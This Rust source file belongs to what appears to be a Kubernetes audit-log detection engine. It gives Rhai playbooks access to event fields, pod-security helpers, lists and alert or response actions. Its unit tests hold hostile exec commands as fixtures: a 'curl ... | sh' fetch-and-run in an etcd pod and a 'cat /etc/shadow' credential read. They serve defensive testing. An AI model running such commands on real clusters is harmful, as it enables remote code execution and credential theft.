//! The host API: the only way a playbook reaches anything — event fields, enrichment, helpers over request objects, lists, response constructors.

use std::collections::{HashMap, HashSet};
use std::sync::{Arc, OnceLock};

use rhai::{Array, Dynamic, Engine, Map};
use serde_json::Value;

use crate::event::AuditEvent;

/// The event as a playbook sees it: shared, with request/response objects and
/// enrichment converted only when a script first touches them.
#[derive(Clone)]
pub struct Ev(Arc<EvInner>);

struct EvInner {
    ev: AuditEvent,
    /// Event time, parsed once: every playbook call and the risk update need it.
    time: i64,
    request: OnceLock<Option<Value>>,
    response: OnceLock<Option<Value>>,
    request_dyn: OnceLock<Dynamic>,
    response_dyn: OnceLock<Dynamic>,
    enrichment: OnceLock<Map>,
}

impl Ev {
    pub fn new(ev: AuditEvent) -> Self {
        Self(Arc::new(EvInner {
            time: ev.event_time(),
            ev,
            request: OnceLock::new(),
            response: OnceLock::new(),
            request_dyn: OnceLock::new(),
            response_dyn: OnceLock::new(),
            enrichment: OnceLock::new(),
        }))
    }

    pub fn event(&self) -> &AuditEvent {
        &self.0.ev
    }

    /// When the API server received the request, seconds since the epoch.
    pub fn time(&self) -> i64 {
        self.0.time
    }

    /// Gives the event back once no script holds it (they never keep it).
    pub fn into_event(self) -> AuditEvent {
        match Arc::try_unwrap(self.0) {
            Ok(inner) => inner.ev,
            Err(shared) => shared.ev.clone(),
        }
    }

    pub fn request(&self) -> Option<&Value> {
        self.0
            .request
            .get_or_init(|| {
                self.0
                    .ev
                    .request_object
                    .as_ref()
                    .and_then(|r| serde_json::from_str(r.get()).ok())
            })
            .as_ref()
    }

    fn response(&self) -> Option<&Value> {
        self.0
            .response
            .get_or_init(|| {
                self.0
                    .ev
                    .response_object
                    .as_ref()
                    .and_then(|r| serde_json::from_str(r.get()).ok())
            })
            .as_ref()
    }

    fn enrichment_part(&self, part: &str) -> Dynamic {
        let map = self.0.enrichment.get_or_init(|| {
            self.0
                .ev
                .enrichment
                .as_deref()
                .and_then(|e| rhai::serde::to_dynamic(e).ok())
                .and_then(|d| d.try_cast::<Map>())
                .unwrap_or_default()
        });
        map.get(part)
            .cloned()
            .unwrap_or_else(|| Dynamic::from(Map::new()))
    }
}

fn json_dyn(v: Option<&Value>) -> Dynamic {
    v.and_then(|v| rhai::serde::to_dynamic(v).ok())
        .unwrap_or(Dynamic::UNIT)
}

fn opt(s: Option<&str>) -> Dynamic {
    s.map_or(Dynamic::UNIT, |s| Dynamic::from(s.to_owned()))
}

fn strings<'a>(it: impl IntoIterator<Item = &'a str>) -> Array {
    it.into_iter()
        .map(|s| Dynamic::from(s.to_owned()))
        .collect()
}

/// The pod spec inside a request object: a Pod, a workload's template, or a CronJob's job template.
pub fn pod_spec(obj: &Value) -> Option<&Value> {
    let spec = obj.get("spec")?;
    if spec.get("containers").is_some() {
        return Some(spec);
    }
    spec.pointer("/template/spec")
        .or_else(|| spec.pointer("/jobTemplate/spec/template/spec"))
}

fn containers(obj: &Value) -> Vec<&Value> {
    let Some(spec) = pod_spec(obj) else {
        return Vec::new();
    };
    ["initContainers", "containers", "ephemeralContainers"]
        .iter()
        .filter_map(|k| spec.get(*k).and_then(Value::as_array))
        .flatten()
        .collect()
}

/// The command of an exec request, decoded from the requestURI's `command=` parameters.
pub fn exec_command(uri: &str) -> String {
    let query = uri.split_once('?').map_or("", |(_, q)| q);
    query
        .split('&')
        .filter_map(|kv| kv.strip_prefix("command="))
        .map(percent_decode)
        .collect::<Vec<_>>()
        .join(" ")
}

/// The command of an exec request: the requestURI's `command=` parameters, else the request
/// object's `command` (AKS and plain events may carry a `PodExecOptions`; GKE's `protoPayload.request`).
pub fn exec_command_of(e: &Ev) -> String {
    let from_uri = exec_command(&e.event().request_uri);
    if !from_uri.is_empty() {
        return from_uri;
    }
    match e.request().and_then(|r| r.get("command")) {
        Some(Value::Array(parts)) => parts
            .iter()
            .filter_map(Value::as_str)
            .collect::<Vec<_>>()
            .join(" "),
        Some(Value::String(s)) => s.clone(),
        _ => String::new(),
    }
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'+' => out.push(b' '),
            b'%' if i + 2 < b.len() => {
                match u8::from_str_radix(std::str::from_utf8(&b[i + 1..i + 3]).unwrap_or("zz"), 16)
                {
                    Ok(v) => {
                        out.push(v);
                        i += 2;
                    }
                    Err(_) => out.push(b'%'),
                }
            }
            c => out.push(c),
        }
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Registers the event type, its fields, the helpers, lists and response constructors.
/// Named lists: global ones, and per-cluster entries that extend them.
#[derive(Debug, Default)]
pub struct Lists {
    pub global: HashMap<String, HashSet<String>>,
    pub per_cluster: HashMap<String, HashMap<String, HashSet<String>>>,
}

impl Lists {
    /// Every entry of list `name`: the global ones, then the cluster's own.
    pub(super) fn entries<'a>(
        &'a self,
        cluster: &str,
        name: &str,
    ) -> impl Iterator<Item = &'a String> + 'a {
        let global = self.global.get(name).into_iter().flatten();
        let local = self
            .per_cluster
            .get(cluster)
            .and_then(|c| c.get(name))
            .into_iter()
            .flatten();
        global.chain(local)
    }

    fn contains(&self, cluster: &str, name: &str, value: &str) -> bool {
        self.global.get(name).is_some_and(|s| s.contains(value))
            || self
                .per_cluster
                .get(cluster)
                .and_then(|c| c.get(name))
                .is_some_and(|s| s.contains(value))
    }

    fn values<'a>(&'a self, cluster: &str, name: &str) -> Vec<&'a str> {
        let mut v: Vec<&str> = self
            .global
            .get(name)
            .into_iter()
            .flatten()
            .map(String::as_str)
            .collect();
        if let Some(extra) = self.per_cluster.get(cluster).and_then(|c| c.get(name)) {
            v.extend(extra.iter().map(String::as_str));
        }
        v.sort_unstable();
        v.dedup();
        v
    }
}

/// The event fields a threshold may count distinct values of (`meta().threshold.of`).
pub const FIELDS: &[&str] = &[
    "user",
    "source_ip",
    "verb",
    "resource",
    "subresource",
    "namespace",
    "name",
    "uri",
    "user_agent",
    "code",
];

/// The value of one of [`FIELDS`] on `ev` (empty when absent).
pub fn field(ev: &AuditEvent, name: &str) -> String {
    let o = ev.object_ref.as_ref();
    let part = |f: fn(&crate::event::ObjectReference) -> Option<&String>| {
        o.and_then(f).cloned().unwrap_or_default()
    };
    match name {
        "user" => ev.user.username.clone(),
        "source_ip" => ev.source_ips.first().cloned().unwrap_or_default(),
        "verb" => ev.verb.clone(),
        "resource" => part(|o| o.resource.as_ref()),
        "subresource" => part(|o| o.subresource.as_ref()),
        "namespace" => part(|o| o.namespace.as_ref()),
        "name" => part(|o| o.name.as_ref()),
        "uri" => ev.request_uri.clone(),
        "user_agent" => ev.user_agent.clone().unwrap_or_default(),
        "code" => ev
            .response_code()
            .map(|c| c.to_string())
            .unwrap_or_default(),
        _ => String::new(),
    }
}

pub fn register(engine: &mut Engine, lists: Arc<Lists>, state: Arc<super::state_api::WindowState>) {
    engine.register_type_with_name::<Ev>("Event");
    super::host_falco::register(engine);
    super::host_detect::register(engine, lists.clone());
    // Plain fields.
    engine.register_get("verb", |e: &mut Ev| e.event().verb.clone());
    engine.register_get("stage", |e: &mut Ev| e.event().stage.as_str().to_owned());
    engine.register_get("uri", |e: &mut Ev| e.event().request_uri.clone());
    engine.register_get("audit_id", |e: &mut Ev| e.event().audit_id.clone());
    engine.register_get("user", |e: &mut Ev| e.event().user.username.clone());
    engine.register_get("groups", |e: &mut Ev| {
        strings(e.event().user.groups.iter().map(String::as_str))
    });
    engine.register_get("impersonated", |e: &mut Ev| {
        opt(e
            .event()
            .impersonated_user
            .as_ref()
            .map(|u| u.username.as_str()))
    });
    engine.register_get("user_agent", |e: &mut Ev| {
        opt(e.event().user_agent.as_deref())
    });
    engine.register_get("source_ips", |e: &mut Ev| {
        strings(e.event().source_ips.iter().map(String::as_str))
    });
    engine.register_get("cluster", |e: &mut Ev| e.event().provenance.cluster.clone());
    engine.register_get("code", |e: &mut Ev| {
        i64::from(e.event().response_code().unwrap_or(0))
    });
    engine.register_get("time", |e: &mut Ev| e.time());
    let oref = |f: fn(&crate::event::ObjectReference) -> Option<&String>| {
        move |e: &mut Ev| {
            opt(e
                .event()
                .object_ref
                .as_ref()
                .and_then(f)
                .map(String::as_str))
        }
    };
    engine.register_get("resource", oref(|o| o.resource.as_ref()));
    engine.register_get("subresource", oref(|o| o.subresource.as_ref()));
    engine.register_get("namespace", oref(|o| o.namespace.as_ref()));
    engine.register_get("name", oref(|o| o.name.as_ref()));
    engine.register_get("api_group", oref(|o| o.api_group.as_ref()));
    engine.register_get("annotations", |e: &mut Ev| {
        e.event()
            .annotations
            .iter()
            .map(|(k, v)| (k.as_str().into(), Dynamic::from(v.clone())))
            .collect::<Map>()
    });
    // Objects and enrichment, converted on first use.
    engine.register_get("request", |e: &mut Ev| {
        e.0.request_dyn
            .get_or_init(|| json_dyn(e.request()))
            .clone()
    });
    engine.register_get("response", |e: &mut Ev| {
        e.0.response_dyn
            .get_or_init(|| json_dyn(e.response()))
            .clone()
    });
    for part in ["identity", "network", "asset", "baseline"] {
        engine.register_get(part, move |e: &mut Ev| e.enrichment_part(part));
    }
    engine.register_fn("pointer", |e: &mut Ev, ptr: &str| -> Dynamic {
        let (root, rest) = match ptr.strip_prefix("/responseObject") {
            Some(rest) => (e.response(), rest),
            None => (
                e.request(),
                ptr.strip_prefix("/requestObject").unwrap_or(ptr),
            ),
        };
        json_dyn(root.and_then(|v| {
            if rest.is_empty() {
                Some(v)
            } else {
                v.pointer(rest)
            }
        }))
    });
    // Helpers over the request object.
    engine.register_fn("is_system_user", |e: &mut Ev| {
        crate::enrich::identity::is_system_user(&e.event().user.username)
    });
    engine.register_fn("container_images", |e: &mut Ev| {
        strings(
            e.request()
                .map(containers)
                .unwrap_or_default()
                .iter()
                .filter_map(|c| c["image"].as_str()),
        )
    });
    engine.register_fn("has_privileged_container", |e: &mut Ev| {
        e.request()
            .map(containers)
            .unwrap_or_default()
            .iter()
            .any(|c| {
                c.pointer("/securityContext/privileged")
                    .and_then(Value::as_bool)
                    == Some(true)
            })
    });
    engine.register_fn("host_path_mounts", |e: &mut Ev| {
        let vols = e
            .request()
            .and_then(pod_spec)
            .and_then(|s| s["volumes"].as_array().cloned())
            .unwrap_or_default();
        strings(
            vols.iter()
                .filter_map(|v| v.pointer("/hostPath/path").and_then(Value::as_str)),
        )
    });
    engine.register_fn("added_capabilities", |e: &mut Ev| {
        let mut caps: Vec<&str> = Vec::new();
        for c in e.request().map(containers).unwrap_or_default() {
            if let Some(add) = c
                .pointer("/securityContext/capabilities/add")
                .and_then(Value::as_array)
            {
                caps.extend(add.iter().filter_map(Value::as_str));
            }
        }
        strings(caps)
    });
    engine.register_fn("host_namespaces", |e: &mut Ev| {
        let spec = e.request().and_then(pod_spec);
        let on = |k: &str| spec.and_then(|s| s[k].as_bool()).unwrap_or(false);
        let mut out = Vec::new();
        for (key, name) in [
            ("hostNetwork", "network"),
            ("hostPID", "pid"),
            ("hostIPC", "ipc"),
        ] {
            if on(key) {
                out.push(name);
            }
        }
        strings(out)
    });
    engine.register_fn("binding_subjects", |e: &mut Ev| {
        json_dyn(e.request().and_then(|r| r.get("subjects")))
    });
    engine.register_fn("binding_role", |e: &mut Ev| {
        opt(e
            .request()
            .and_then(|r| r.pointer("/roleRef/name"))
            .and_then(Value::as_str))
    });
    engine.register_fn("role_rules", |e: &mut Ev| {
        json_dyn(e.request().and_then(|r| r.get("rules")))
    });
    engine.register_fn("exec_command", |e: &mut Ev| exec_command_of(e));
    // Lists from config, so users tune without editing scripts; a cluster's own entries extend them.
    let l = lists.clone();
    engine.register_fn("in_list", move |name: &str, value: &str| {
        super::state_api::with_cluster(|cluster| l.contains(cluster, name, value))
    });
    engine.register_fn("list", move |name: &str| {
        super::state_api::with_cluster(|cluster| strings(lists.values(cluster, name)))
    });
    // State helpers, scoped to the calling playbook, in event time.
    use super::state_api::window_secs;
    let st = state.clone();
    engine.register_fn(
        "count",
        move |key: &str, window: Dynamic| -> Result<i64, Box<rhai::EvalAltResult>> {
            Ok(st.count(key, window_secs(&window)?))
        },
    );
    let st = state.clone();
    engine.register_fn(
        "distinct",
        move |key: &str, value: &str, window: Dynamic| -> Result<i64, Box<rhai::EvalAltResult>> {
            Ok(st.distinct(key, value, window_secs(&window)?))
        },
    );
    let st = state.clone();
    engine.register_fn("first_seen", move |key: &str| st.first_seen(key));
    let st = state.clone();
    engine.register_fn(
        "sequence",
        move |key: &str,
              step: i64,
              total: i64,
              within: Dynamic|
              -> Result<bool, Box<rhai::EvalAltResult>> {
            Ok(st.sequence(key, step, total, window_secs(&within)?))
        },
    );
    engine.register_fn("risk", move |entity: &str| state.risk(entity));
    // Response constructors: data in the verdict; the responders execute them.
    engine.register_fn("slack", |channel: &str| {
        response("slack", [("channel", channel)])
    });
    engine.register_fn("revoke_binding", || {
        response("revoke_binding", [("mode", "remove_subject")])
    });
    engine.register_fn("delete_binding", || {
        response("revoke_binding", [("mode", "delete")])
    });
    engine.register_fn("webhook", |name: &str| {
        response("webhook", [("name", name)])
    });
    engine.register_fn("kafka_alert", || response("kafka", []));
    engine.register_fn("with_approval", |mut r: Map| {
        r.insert("approval".into(), Dynamic::TRUE);
        r
    });
}

fn response<const N: usize>(kind: &str, params: [(&str, &str); N]) -> Map {
    let mut m = Map::new();
    m.insert("kind".into(), Dynamic::from(kind.to_owned()));
    for (k, v) in params {
        m.insert(k.into(), Dynamic::from(v.to_owned()));
    }
    m
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decodes_exec_commands_from_the_request_uri() {
        let uri = "/api/v1/namespaces/kube-system/pods/etcd-0/exec?command=sh&command=-c&command=curl+http%3A%2F%2Fx%2Fy+%7C+sh&container=etcd&stdin=true";
        assert_eq!(exec_command(uri), "sh -c curl http://x/y | sh");
        assert_eq!(exec_command("/api/v1/pods"), "");
    }

    #[test]
    fn falls_back_to_the_request_objects_command() {
        let line = serde_json::json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "auditID": "x",
            "stage": "ResponseComplete", "verb": "create",
            "requestURI": "/api/v1/namespaces/web/pods/api-0/exec",
            "user": {"username": "alice@example.com"},
            "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "web", "name": "api-0"},
            "requestObject": {"kind": "PodExecOptions", "apiVersion": "v1", "command": ["sh", "-c", "cat /etc/shadow"], "stdin": true}
        })
        .to_string();
        let ev = crate::event::decode_record(line.as_bytes(), &Default::default())
            .events
            .remove(0);
        assert_eq!(exec_command_of(&Ev::new(ev)), "sh -c cat /etc/shadow");
    }

    #[test]
    fn finds_pod_specs_in_pods_workloads_and_cronjobs() {
        let pod = serde_json::json!({"spec": {"containers": [{"image": "a"}]}});
        let dep = serde_json::json!({"spec": {"template": {"spec": {"containers": [{"image": "b"}], "initContainers": [{"image": "i"}]}}}});
        let cron = serde_json::json!({"spec": {"jobTemplate": {"spec": {"template": {"spec": {"containers": [{"image": "c"}]}}}}}});
        let images = |v: &Value| {
            containers(v)
                .iter()
                .map(|c| c["image"].as_str().unwrap().to_owned())
                .collect::<Vec<_>>()
        };
        assert_eq!(images(&pod), ["a"]);
        assert_eq!(images(&dep), ["i", "b"]);
        assert_eq!(images(&cron), ["c"]);
    }
}
